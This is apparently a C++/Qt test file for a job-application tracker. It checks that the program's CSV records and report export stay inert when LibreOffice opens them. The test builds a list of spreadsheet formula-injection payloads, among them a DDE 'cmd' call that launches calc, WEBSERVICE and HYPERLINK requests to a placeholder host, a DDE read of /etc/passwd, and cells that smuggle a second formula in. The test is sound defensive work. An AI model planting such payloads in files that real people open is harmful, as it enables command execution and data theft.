// SPDX-FileCopyrightText: 2026 The Shortlist developers
// SPDX-License-Identifier: GPL-3.0-or-later

#include "models/policy/proof.h"
#include "tests/services/storefixture.h"
#include "tests/support/longtests.h"
#include "tests/surface/figures.h"
#include "tests/surface/payloads.h"

#include <QProcess>
#include <QStandardPaths>
#include <QTest>
#include <QXmlStreamReader>

using namespace Shortlist;
using namespace Shortlist::Testing;
using namespace Qt::StringLiterals;

namespace {

/// What a spreadsheet runs, and what looks like it.
QStringList formulas()
{
    const QStringList signs{
        u"="_s,   u"+"_s,   u"-"_s,  u"@"_s,        u"\t="_s,    u"\r="_s,     QString(QChar(u'\0')) + u'=',
        u"＝"_s,  u"＋"_s,  u"－"_s, u"＠"_s,       u" ="_s,     u"\u00a0="_s, u"'="_s,
        u"''="_s, u"=\t"_s, u"=="_s, u"\u3000＝"_s, u"\ufeff="_s};
    const QStringList calls{u"1+1"_s,
                            u"SUM(1;2)"_s,
                            u"SUM(1,2)"_s,
                            u"cmd|' /C calc'!A0"_s,
                            u"HYPERLINK(\"http://a.example/\"&A1;\"more\")"_s,
                            u"WEBSERVICE(\"http://a.example/\")"_s,
                            u"DDE(\"soffice\";\"/etc/passwd\";\"A1\")"_s,
                            u"2+3\",\"=4+5"_s,
                            u"2+3\n=4+5"_s,
                            u"2+3;=4+5"_s};
    QStringList all;
    for (const QString &sign : signs)
        for (const QString &call : calls)
            all.append(sign + call);
    return all;
}

QStringList texts()
{
    const QStringList naughty = naughtyStrings();
    if (naughty.isEmpty())
        qWarning("../shared/hostile/blns.json is not here: only our own texts are tried");
    QStringList all = formulas() + naughty;
    for (const QString &text : naughty)
        all.append(u"="_s + text);
    return all;
}

/// As csvRecord() without its guard.
QString bareRecord(const QStringList &cells)
{
    QStringList quoted;
    for (QString cell : cells)
        quoted.append(u"\"%1\""_s.arg(cell.replace(u'"', u"\"\""_s)));
    return quoted.join(u',') + u"\r\n"_s;
}

/// What LibreOffice makes of a table.
struct Sheet
{
    bool isRead = false;
    int rows = 0;
    int formulas = 0;
};

/// The sheet of an OpenDocument file as one piece of XML: what has a formula says so in an attribute.
Sheet sheetOf(const QString &path)
{
    QFile file(path);
    Sheet sheet;
    if (!file.open(QIODevice::ReadOnly))
        return sheet;
    QXmlStreamReader reader(&file);
    bool hasCells = false;
    while (!reader.atEnd()) {
        reader.readNext();
        if (reader.isStartElement() && reader.name() == "table-row"_L1)
            hasCells = false;
        if (reader.isStartElement() && reader.name() == "table-cell"_L1) {
            hasCells = hasCells || !reader.attributes().value("office:value-type"_L1).isEmpty();
            sheet.formulas += reader.attributes().hasAttribute("table:formula"_L1) ? 1 : 0;
        }
        if (reader.isEndElement() && reader.name() == "table-row"_L1 && hasCells)
            ++sheet.rows;
    }
    sheet.isRead = !reader.hasError();
    return sheet;
}

} // namespace

/// The tables that the program writes, opened by a spreadsheet that people have: nothing in them is a formula.
class SpreadsheetTest : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void initTestCase();
    void runsNothingOfOurRecords();
    void runsNothingOfTheReport();

private:
    Sheet opened(const QByteArray &csv) const;

    QString m_office = QStandardPaths::findExecutable(u"soffice"_s);
    QTemporaryDir m_folder; ///< and LibreOffice's own home in it
    Figures m_figures{{u"LibreOffice opens a table"_s, u"texts"_s, u"rows"_s, u"formulas"_s}};
};

void SpreadsheetTest::initTestCase()
{
    if (m_office.isEmpty())
        QSKIP("LibreOffice is not here (libreoffice-calc-nogui): whether a spreadsheet runs a cell was NOT tried");
}

Sheet SpreadsheetTest::opened(const QByteArray &csv) const
{
    QFile file(m_folder.filePath(u"table.csv"_s));
    if (!file.open(QIODevice::WriteOnly) || file.write(csv) != csv.size())
        return {};
    file.close();
    QProcess office;
    // Commas, quotes, UTF-8, from the first line on, and formulas are worked out:
    // https://help.libreoffice.org/latest/en-US/text/shared/guide/csv_params.html
    office.start(m_office,
                 {u"-env:UserInstallation=file://%1/home"_s.arg(m_folder.path()), u"--headless"_s, u"--convert-to"_s,
                  u"fods"_s, u"--infilter=CSV:44,34,76,1,,0,false,true,false,false,false,-1,true"_s, u"--outdir"_s,
                  m_folder.path(), file.fileName()});
    if (!office.waitForFinished(180'000) || office.exitCode() != 0)
        return {};
    return sheetOf(m_folder.filePath(u"table.fods"_s));
}

void SpreadsheetTest::runsNothingOfOurRecords()
{
    QString ours;
    QString bare;
    const QStringList all = texts();
    for (const QString &text : all) {
        ours += csvRecord({text, u"second"_s, text});
        bare += bareRecord({text, u"second"_s, text});
    }
    const Sheet guarded = opened((QChar(QChar::ByteOrderMark) + ours).toUtf8());
    QVERIFY(guarded.isRead);
    QCOMPARE(guarded.formulas, 0);
    QVERIFY(guarded.rows >= all.size() - 5); // of a row with nothing but a mark for white space nothing is left
    m_figures.add(u"what we write"_s, {all.size(), guarded.rows, guarded.formulas});

    const Sheet unguarded = opened((QChar(QChar::ByteOrderMark) + bare).toUtf8()); // the control
    QVERIFY(unguarded.isRead);
    QVERIFY2(unguarded.formulas > 100, "the spreadsheet runs nothing at all: this test sees nothing");
    m_figures.add(u"the same without a guard"_s, {all.size(), unguarded.rows, unguarded.formulas});
}

/// All the way: imported, applied for, and reported by the real command line.
void SpreadsheetTest::runsNothingOfTheReport()
{
    const QStringList all = runsLong() ? texts() : formulas();
    StoreFixture fixture;
    QVERIFY(fixture.isOpen());
    std::vector<Posting> postings;
    for (qsizetype number = 0; number < all.size(); ++number) {
        const QString &text = all.at(number);
        Posting posting;
        posting.title = posting.employer = posting.employerAsWritten = text;
        posting.titleOrigin = TitleOrigin::Stated;
        posting.requisitionId = QString::number(number);
        posting.text = u"Number %1"_s.arg(number);
        Place place;
        place.text = place.locality = text;
        posting.places = {place};
        postings.push_back(posting);
    }
    const auto ids = fixture.import(postings);
    QCOMPARE(ids.size(), postings.size());
    int sent = 0;
    for (const PostingId id : ids) {
        const QString note = all.at(sent);
        DO_OK(fixture->tracking.record({id, fixture.stage(u"applied"_s), QDate(2026, 3, 2), {}, note, {}}).result());
        ++sent;
    }
    const QString database = fixture.path();
    fixture.services.reset();
    fixture.store.reset();

    QProcess report;
    report.start(QStringLiteral(SHORTLIST_CLI), {u"--db"_s, database, u"report"_s, u"2026-03"_s, u"--csv"_s});
    QVERIFY(report.waitForFinished(120'000));
    QCOMPARE(report.exitCode(), 0);
    const Sheet sheet = opened(report.readAllStandardOutput());
    QVERIFY(sheet.isRead);
    QCOMPARE(sheet.rows, sent + 1);
    QCOMPARE(sheet.formulas, 0);
    m_figures.add(u"shortlist-cli report --csv"_s, {sent, sheet.rows, sheet.formulas});
}

QTEST_GUILESS_MAIN(SpreadsheetTest)
#include "tst_spreadsheet.moc"
